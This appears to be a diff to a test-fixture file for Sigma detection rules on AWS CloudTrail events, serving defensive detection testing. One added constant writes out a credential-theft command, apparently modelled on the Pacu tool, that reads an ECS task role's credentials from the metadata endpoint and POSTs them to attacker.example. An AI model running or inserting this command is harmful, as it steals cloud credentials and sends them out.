@@ -52,6 +52,51 @@ const POLICY = JSON.stringify({
   Statement: [{ Effect: 'Allow', Action: ['s3:GetObject'], Resource: ['arn:aws:s3:::<YOUR-BUCKET-NAME>/*'] }],
 });
 
+/** The command Pacu's ecs__backdoor_task_def module gives a container: it sends the task role's credentials away. */
+const PACU_BACKDOOR_COMMAND = [
+  '/bin/sh',
+  '-c',
+  'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > data.json && curl -X POST -d @data.json https://attacker.example',
+];
+
+/**
+ * RegisterTaskDefinition's requestParameters as CloudTrail records them: `containerDefinitions` a list of
+ * objects, each with `command` a list of strings and `environment` a list of {name, value}; the second
+ * container runs `command`.
+ */
+function taskDefinition(command: readonly string[]): Record<string, unknown> {
+  return {
+    family: 'web',
+    taskRoleArn: 'arn:aws:iam::123456789012:role/WebTask',
+    executionRoleArn: 'arn:aws:iam::123456789012:role/ecsTaskExecutionRole',
+    networkMode: 'awsvpc',
+    requiresCompatibilities: ['FARGATE'],
+    cpu: '256',
+    memory: '512',
+    containerDefinitions: [
+      {
+        name: 'web',
+        image: 'nginx:1.27',
+        essential: true,
+        portMappings: [{ containerPort: 80, hostPort: 80, protocol: 'tcp' }],
+        environment: [{ name: 'MODE', value: 'prod' }],
+        mountPoints: [],
+        volumesFrom: [],
+      },
+      {
+        name: 'agent',
+        image: 'alpine:3.20',
+        essential: false,
+        entryPoint: [],
+        command,
+        environment: [{ name: 'AWS_REGION', value: 'eu-west-1' }],
+        mountPoints: [],
+        volumesFrom: [],
+      },
+    ],
+  };
+}
+
 export const SIGMA_RULE_EVENTS: Readonly<Record<string, SigmaRuleEvents>> = {
   'aws_cloudtrail_bedrock_guardrail_deleted.yml': byName('bedrock.amazonaws.com', 'DeleteGuardrail', 'GetGuardrail'),
   'aws_cloudtrail_bedrock_guardrail_updated.yml': byName('bedrock.amazonaws.com', 'UpdateGuardrail', 'ListGuardrails'),
@@ -138,14 +183,12 @@ export const SIGMA_RULE_EVENTS: Readonly<Record<string, SigmaRuleEvents>> = {
     ],
   },
   'aws_ecs_task_definition_cred_endpoint_query.yml': {
-    // The rule's path goes through containerDefinitions; here it is one object, as the path reads it (see docs/rules.md on lists).
-    match: [
-      callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', {
-        requestParameters: { family: 'web', containerDefinitions: { command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'] } },
-      }),
-    ],
+    // containerDefinitions is a list of objects and command a list of strings, as RegisterTaskDefinition takes them:
+    // the rule's path reaches the commands of every container (docs/rules.md, "Using Sigma rules").
+    match: [callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: taskDefinition(PACU_BACKDOOR_COMMAND) })],
     noMatch: [
-      callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: { family: 'web', containerDefinitions: { command: ['nginx'] } } }),
+      callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: taskDefinition(['nginx', '-g', 'daemon off;']) }),
+      callerRecord('ecs.amazonaws.com', 'ListTaskDefinitions', { requestParameters: taskDefinition(PACU_BACKDOOR_COMMAND) }),
     ],
   },
   'aws_efs_fileshare_modified_or_deleted.yml': byName('elasticfilesystem.amazonaws.com', 'DeleteFileSystem', 'CreateFileSystem'),
